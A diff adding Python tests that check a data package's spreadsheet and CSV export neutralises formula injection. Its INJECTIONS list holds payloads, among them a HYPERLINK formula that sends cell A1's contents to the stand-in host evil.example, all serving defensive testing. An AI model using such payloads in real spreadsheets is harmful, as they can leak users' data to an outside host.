@@ -7,7 +7,7 @@ import pandas as pd
 import pytest
 
 from zhili_data.exceptions import ParameterError
-from zhili_data.spreadsheet import MAX_SHEET_NAME, sheet_name, workbook_bytes
+from zhili_data.spreadsheet import MAX_SHEET_NAME, csv_text, sheet_name, workbook_bytes
 
 
 def test_sheet_names_follow_excels_rules():
@@ -38,3 +38,25 @@ def test_the_same_sheets_give_the_same_bytes():
 def test_a_workbook_needs_a_sheet():
     with pytest.raises(ParameterError, match="at least one sheet"):
         workbook_bytes({})
+
+
+INJECTIONS = ['=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")', "@SUM(1+1)", "+1+1", "-1+1", "=1", "#N/A", "\tx"]
+
+
+def test_every_text_is_a_string_cell_whatever_it_starts_with():
+    from openpyxl import load_workbook
+
+    frame = pd.DataFrame({"=header": INJECTIONS, "value": [-1.5] * len(INJECTIONS)})
+    book = load_workbook(io.BytesIO(workbook_bytes({"t": frame})))
+    cells = [cell for row in book["t"].iter_rows() for cell in row]
+    assert [c.data_type for c in cells if c.data_type not in ("s", "n")] == []
+    assert [c.value for c in book["t"]["A"]] == ["=header", *INJECTIONS]
+    assert [c.value for c in book["t"]["B"]][1:] == [-1.5] * len(INJECTIONS)  # numbers stay numbers
+
+
+def test_csv_text_neutralises_text_a_spreadsheet_reads_as_a_formula():
+    frame = pd.DataFrame({"indicator": [*INJECTIONS, "GDP", "-3.5"], "value": [-1.5] * len(INJECTIONS) + [181.0, 2.0]})
+    back = pd.read_csv(io.StringIO(csv_text(frame)), dtype=str, keep_default_na=False)
+    formulas = ["'" + t if t[0] in "=+-@\t" else t for t in INJECTIONS]  # '#N/A' is an error only in a workbook
+    assert back["indicator"].tolist() == [*formulas, "GDP", "-3.5"]
+    assert back["value"].tolist() == ["-1.5"] * len(INJECTIONS) + ["181.0", "2.0"]  # numbers are not text
